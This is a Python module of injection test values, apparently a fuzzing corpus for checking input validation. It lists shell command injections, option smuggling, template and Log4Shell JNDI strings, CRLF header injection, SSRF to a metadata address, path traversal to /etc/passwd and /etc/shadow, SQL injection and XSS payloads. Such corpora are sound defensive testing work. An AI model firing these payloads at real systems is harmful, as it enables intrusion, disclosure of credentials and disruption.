"""Values that try to become something else: a command, an option, a template, a header, a query, a page."""

from __future__ import annotations

SHELL = (
    "$(touch /tmp/muster-owned)", "`touch /tmp/muster-owned`", "; touch /tmp/muster-owned", "| touch /tmp/muster-owned",
    "&& touch /tmp/muster-owned", "|| touch /tmp/muster-owned", "& touch /tmp/muster-owned &", "> /tmp/muster-owned",
    "< /etc/passwd", "orders; reboot", "orders\nreboot", "orders\r\nreboot", "orders\x00; reboot", "$IFS$9reboot",
    "${PATH:0:1}bin${PATH:0:1}sh", "'; reboot; '", '"; reboot; "', "\\'; reboot", "$((1+1))", "<(reboot)",
    "{cat,/etc/passwd}", "orders #", "!!", "~root", "*", "?(a)", "orders\treboot", "a=b reboot",
    "%COMSPEC% /c reboot", "^& reboot",
)  # fmt: skip
OPTIONS = (
    "-rf", "--help", "--bootstrap-server=evil:9092", "-oProxyCommand=reboot", "--", "-", "-e'system(1)'",
    "@/etc/passwd", "--config=/etc/shadow", "\u2010\u2010help",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{% debug %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "{group}", "%(group)s", "%s%s%n",
    "$group", "{{ settings.SECRET_KEY }}", "{% include '/etc/passwd' %}", "{{''.__class__.__mro__}}", "${jndi:ldap://evil/a}",
    "${{ github.token }}", "[[ .Values.secret ]]", "{{range .}}{{end}}", "=1+1", "=cmd|' /C calc'!A0",
)  # fmt: skip
WIRE = (
    "x\r\nX-Evil: 1", "x%0d%0aX-Evil:%201", "x\nHost: evil", "evil.example.net/", "@evil.example.net",
    "evil.example.net#", "?admin=1&dry_run=true", "../../admin", "..%2f..%2fadmin", "//evil.example.net", "http://169.254.169.254/",
    "a&b=c", '","dry_run":true,"x":"', "\ud800", "\u202edrowssap", "' OR 1=1 --", "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "[x](javascript:alert(1))",
)  # fmt: skip
ALL = (*SHELL, *OPTIONS, *TEMPLATES, *WIRE)
# More of the same, and what is harmless to some: values that some types take, odd characters, and lookalikes.
MORE = (
    "; id", "a; id", "a && id", "a || id", "| id", "a|id", "& id", "$(id)", "a$(id)", "`id`", "a`id`", "$IFS",
    "${HOME}", "$HOME", "a > /tmp/x", "<(id)", "a\\", "\\x41", "'", '"', "a'b", 'a"b', "''; id; ''", "?", "{a,b}",
    "a #", "((1))", "$((7*7))", "(id)", "a\nid", "a\r\nid", "a\tid", "a id", " a", "a ", "", "{%import os%}", "%s%n",
    "{\"parameter\": \"group\"}", "-c", "--flag", "--output=/etc/passwd", "-oProxyCommand=id", "+x", "/c dir",
    "a\r\nX-Injected: 1", "%0a", "%0d%0aSet-Cookie: a=1", "a%00b", "http://127.0.0.1/", "file:///etc/passwd",
    "1; DROP TABLE x", "*)(uid=*", "<!ENTITY x SYSTEM 'file:///'>", "../../etc/passwd", "..", ".", "/etc/passwd",
    "a/../b", "..%2f..%2f", "~/.ssh", ".hidden", "C:\\Windows", "a\0b", "\0", "\x1b[31m", "\x7f", "a\u202eb",
    "\u2028", "a\u200bb", "\ufeffa", "аdmin", "ａ", "①", "é", "e\u0301", "😀", "\u00a0", "ı", "K", "a" * 129,
    "a" * 100_000, "a.b\n", "\na", "٣", "a\x85", "true", "True", "1", "01", "1e3", "0x10", "NaN", "null", "[]",
    "__proto__", "constructor", "orders", "a:9092", "a:9092 ",
)  # fmt: skip
